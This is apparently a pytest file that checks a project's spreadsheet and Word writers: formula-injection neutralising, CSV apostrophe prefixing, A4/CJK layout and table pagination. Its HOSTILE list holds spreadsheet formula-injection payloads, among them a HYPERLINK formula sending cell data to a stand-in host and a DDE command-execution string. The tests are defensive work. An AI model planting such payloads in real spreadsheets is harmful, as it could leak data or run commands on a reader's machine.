"""The shared document writers: no live formula ever leaves the system, every .docx is A4 with CJK fonts."""

from __future__ import annotations

import ast
import io
from pathlib import Path

import docx
import pytest
from openpyxl import Workbook, load_workbook

from devzone.core.documents import (
    FORMULA_STARTS,
    add_table,
    document_bytes,
    new_document,
    safe_text,
    save_workbook,
)

SRC = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "=1+1",
    "+1-2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=cmd|' /C calc'!A0",
    "\r=1",
]


def test_no_hostile_text_is_written_as_a_formula() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["名称", "数值"])
    for text in HOSTILE:
        sheet.append([text, -5])
    book2 = load_workbook(io.BytesIO(save_workbook(book)))
    cells = [c for row in book2.active.iter_rows() for c in row]  # type: ignore[union-attr]
    assert [c for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert set(HOSTILE) <= set(texts), "the text itself is kept, only made inert"
    assert all(
        c.quotePrefix for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)
    )
    numbers = [c.value for c in cells if c.column == 2 and c.row > 1]
    assert numbers == [-5] * len(HOSTILE), "numbers stay numbers"


def test_a_saved_workbook_prints_on_a4() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([f"列{i}" for i in range(10)])
    sheet.append(list(range(10)))
    again = load_workbook(io.BytesIO(save_workbook(book))).active
    assert again is not None
    assert (int(again.page_setup.paperSize), again.page_setup.orientation) == (9, "landscape")  # 9 = A4


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cells_get_the_apostrophe(text: str) -> None:
    assert safe_text(text) == "'" + text


def test_a_new_document_is_a4_with_east_asian_fonts_and_repeating_headers() -> None:
    document = new_document("测试")
    add_table(document, ["序号", "任务"], [[1, "甲"]], widths_cm=[2, 12])
    again = docx.Document(io.BytesIO(document_bytes(document)))
    section = again.sections[0]
    assert (round(section.page_width.cm, 1), round(section.page_height.cm, 1)) == (21.0, 29.7)
    xml = again.element.xml
    assert 'w:eastAsia="宋体"' in again.styles.element.xml
    assert "w:tblHeader" in xml


def _saves_outside_the_writer(path: Path) -> list[str]:
    """Calls like ``wb.save(…)`` on an openpyxl workbook, in a module that imports openpyxl."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    imports_openpyxl = any(
        isinstance(n, ast.ImportFrom | ast.Import)
        and any(
            (getattr(n, "module", "") or "").startswith("openpyxl") or a.name.startswith("openpyxl")
            for a in n.names
        )
        for n in ast.walk(tree)
    )
    if not imports_openpyxl:
        return []
    return [
        f"{path.relative_to(SRC)}:{node.lineno}"
        for node in ast.walk(tree)
        if isinstance(node, ast.Call)
        and isinstance(node.func, ast.Attribute)
        and node.func.attr == "save"
        and isinstance(node.func.value, ast.Name | ast.Call)
        and not (isinstance(node.func.value, ast.Name) and node.func.value.id in {"document", "doc", "d"})
    ]


def test_every_workbook_is_saved_through_the_formula_safe_writer() -> None:
    """A second way to save a workbook would be a way around the neutraliser."""
    offenders = [
        hit
        for path in sorted(SRC.rglob("*.py"))
        if "tests" not in path.parts and path.name != "documents.py"
        for hit in _saves_outside_the_writer(path)
    ]
    assert offenders == []


def test_a_long_table_keeps_each_row_on_one_page_and_every_page_is_numbered(tmp_path: Path) -> None:
    """Laid out by LibreOffice as a reader opens it: pages numbered "— n —" at the foot, and a row whose
    cell runs over several lines is never cut between two pages."""
    import shutil  # noqa: PLC0415
    import subprocess  # noqa: PLC0415

    import pdfplumber  # noqa: PLC0415

    office = shutil.which("soffice") or shutil.which("libreoffice")
    assert office, "LibreOffice is installed by scripts/system-deps.sh"
    document = new_document("长表测试")
    filler = "推进项目建设，按节点完成审批手续并报送进展情况，" * 4
    add_table(document, ["序号", "事项"], [[f"行{i:02d}", f"起{i:02d}{filler}止{i:02d}"] for i in range(40)],
              widths_cm=[2.5, 12])  # fmt: skip
    source = tmp_path / "long.docx"
    source.write_bytes(document_bytes(document))
    subprocess.run([office, "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path), str(source)],  # noqa: S603
                   check=True, capture_output=True, timeout=120, env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"})  # fmt: skip
    with pdfplumber.open(tmp_path / "long.pdf") as pdf:
        pages = ["".join((page.extract_text() or "").split()) for page in pdf.pages]
    assert len(pages) >= 3
    for n, text in enumerate(pages, start=1):
        assert f"—{n}—" in text, f"page {n} has no page number"
    for i in range(40):
        where = [n for n, text in enumerate(pages) if f"起{i:02d}" in text or f"止{i:02d}" in text]
        assert len(set(where)) == 1, f"row {i} is split over pages {where}"
